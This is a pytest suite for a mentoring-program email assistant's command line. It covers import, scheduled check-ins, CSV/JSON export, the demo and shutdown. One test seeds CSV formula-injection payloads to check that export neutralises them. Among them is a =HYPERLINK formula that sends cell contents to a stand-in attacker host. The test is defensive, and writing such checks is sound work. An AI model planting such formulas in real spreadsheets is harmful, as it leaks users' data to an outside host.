"""The command line end to end, as a coordinator uses it: import, run with --now, export; run as a service."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from assistant.cli import main
from assistant.mail.replies import reply
from assistant.transport.maildir import deliver
from tests.conftest import ROOT


def _cli(config: Path, *args: str) -> int:
    return main(["--config", str(config), *args])


def test_a_month_through_the_cli(example_config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = example_config.parent
    assert _cli(example_config, "import", "participants", str(ROOT / "examples" / "participants.csv")) == 0
    assert _cli(example_config, "import", "pairs", str(ROOT / "examples" / "pairs.csv")) == 0
    assert _cli(example_config, "--now", "2026-12-01T09:00", "run", "--once") == 0
    assert "queued 8 check-in prompts" in capsys.readouterr().out
    assert _cli(example_config, "--now", "2026-12-01T09:30", "run", "--once") == 0
    assert "queued 0 check-in prompts" in capsys.readouterr().out

    prompt = next(p for p in (folder / "var" / "sent" / "new").iterdir() if b"To: Maya Patel" in p.read_bytes())
    deliver(
        folder / "var" / "inbox",
        reply(prompt.read_bytes(), ("Maya Patel", "maya.patel@example.org"), "1. y\n2. 3\n3. CV\n4. 5"),
    )
    assert _cli(example_config, "--now", "2026-12-02T09:00", "run", "--once") == 0
    assert "recorded 1" in capsys.readouterr().out
    assert not list((folder / "var" / "inbox" / "new").iterdir())  # moved to cur/ once in the ledger

    assert _cli(example_config, "export", "--format", "json") == 0
    rows = json.loads(capsys.readouterr().out)
    maya = next(row for row in rows if row["participant"] == "maya.patel@example.org")
    assert (maya["status"], maya["met"], maya["meetings"], maya["rating"]) == ("answered", "yes", "3", "5")
    assert _cli(example_config, "export", "--format", "csv", "--period", "2026-11") == 0  # asked on 1 December
    csv_text = capsys.readouterr().out
    assert csv_text.splitlines()[0].startswith("checkin_id,period,status") and len(csv_text.splitlines()) == 9

    assert _cli(example_config, "--now", "2026-12-08T10:00", "run", "--once") == 0
    assert "5 follow-up mails" in capsys.readouterr().out  # Helen and Jo (New York) wait for their morning
    assert _cli(example_config, "outbox", "list", "--status", "sent") == 0
    assert "Re: Your November mentoring check-in" in capsys.readouterr().out
    assert _cli(example_config, "status") == 0
    out = capsys.readouterr().out
    assert "checkins by status: answered 1, awaiting 7" in out and "review: empty" in out


def test_a_first_run_on_an_empty_program_says_what_to_do_next(
    example_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The README's first command on a fresh checkout: "received 0 ... sent 0" alone would tell a newcomer nothing."""
    assert _cli(example_config, "run", "--once") == 0
    out = capsys.readouterr().out
    assert "Nobody is in this program yet" in out
    assert f"mentor-assistant --config {example_config} import participants examples/participants.csv" in out
    assert _cli(example_config, "import", "participants", str(ROOT / "examples" / "participants.csv")) == 0
    capsys.readouterr()
    assert _cli(example_config, "run", "--once") == 0
    assert "Nobody is in this program yet" not in capsys.readouterr().out


def test_paused_after_the_prompt_means_no_reminder(example_config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _cli(example_config, "import", "participants", str(ROOT / "examples" / "participants.csv"))
    _cli(example_config, "import", "pairs", str(ROOT / "examples" / "pairs.csv"))
    _cli(example_config, "--now", "2026-12-01T09:00", "run", "--once")
    sheet = example_config.parent / "paused.csv"
    sheet.write_text("email,name,role,status\nmaya.patel@example.org,Maya Patel,mentee,paused\n")
    _cli(example_config, "import", "participants", str(sheet))
    for day in ("08", "15", "22"):
        _cli(example_config, "--now", f"2026-12-{day}T10:00", "run", "--once")
    capsys.readouterr()
    _cli(example_config, "outbox", "list", "--limit", "100")
    to_maya = [line for line in capsys.readouterr().out.splitlines() if "maya.patel@" in line]
    assert len(to_maya) == 1  # the prompt only


def test_demo_tells_its_story(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["demo", "--dir", str(tmp_path / "demo")]) == 0
    story = capsys.readouterr().out
    assert "Tue 1 December" in story and "sends an out-of-office auto-reply" in story
    assert "1 pair needs a word from you: Jo Nguyen and Helen Cho" in story  # the day's list, both of the pair
    assert "asked for help" in story
    # Sofia reads the program in Spanish: her prompt, the ask; her "¡Sí, encantada!" is a yes.
    assert "→ to sofia.marquez@example.org: Tu seguimiento de mentoría de noviembre" in story
    assert "¿Serías mentor/a de Zoe Mensah?" in story and "Introducing Zoe Mensah and Sofia Marquez" in story
    # A cohort's mid-point, a birthday note and a first talk told to the mentors, a sponsorship recorded.
    assert "Half-way through the autumn-2026 cohort" in story
    assert "→ to dana.okafor@example.org: Maya" in story and "birthday" in story
    assert "→ to sofia.marquez@example.org" in story
    assert "Dana Okafor recommended Maya Patel for A panel at the Women in Product conference" in story
    # The pair write to each other; a reply that reaches the assistant anyway is passed on, never held.
    assert "Zoe Mensah replies to the introduction; it goes to Sofia Marquez" in story
    assert "pair message passed" in story
    # The coordinator pauses a mentor on leave by email (confirmed: the demo has no DMARC verdict).
    assert "Please confirm: pause helen.cho@example.org until 2027-01-15?" in story and "Done: your command" in story
    assert str(tmp_path / "demo" / "sent" / "new") in story


def test_run_stops_cleanly_on_sigterm(example_config: Path) -> None:
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    service = subprocess.Popen(
        [sys.executable, "-m", "assistant", "--config", str(example_config), "run"],
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert service.stderr is not None
        for line in service.stderr:  # wait until the loop is up, then ask it to stop
            if "running;" in line:
                break
        service.send_signal(signal.SIGTERM)
        assert service.wait(timeout=20) == 0
        assert "stopped" in service.stderr.read()
    finally:
        service.kill()


# A spreadsheet runs each of these as a formula (tab and CR first, as some do after trimming); the last is plain data.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3"]


def test_csv_export_neutralises_formulas_and_json_keeps_them(
    example_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _cli(example_config, "import", "participants", str(ROOT / "examples" / "participants.csv"))
    _cli(example_config, "import", "pairs", str(ROOT / "examples" / "pairs.csv"))
    _cli(example_config, "--now", "2026-12-01T09:00", "run", "--once")
    with sqlite3.connect(example_config.parent / "var" / "program.db") as db:
        checkins = [row[0] for row in db.execute("SELECT id FROM checkins ORDER BY id LIMIT ?", [len(FORMULAS)])]
        db.executemany(
            "INSERT INTO answers (checkin_id, question, value, raw, recorded_at) VALUES (?, 'topics', ?, ?, ?)",
            [(checkin, text, text, "2026-12-02T09:00:00Z") for checkin, text in zip(checkins, FORMULAS, strict=True)],
        )
    capsys.readouterr()

    for what in ("checkins", "answers"):
        assert _cli(example_config, "export", "--format", "csv", "--what", what) == 0
        cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert all(f"'{value}" in cells for value in FORMULAS)  # a legitimate -3 too: the rule has no exceptions
    assert _cli(example_config, "export", "--format", "json", "--what", "answers") == 0
    assert sorted(row["value"] for row in json.loads(capsys.readouterr().out)) == sorted(FORMULAS)
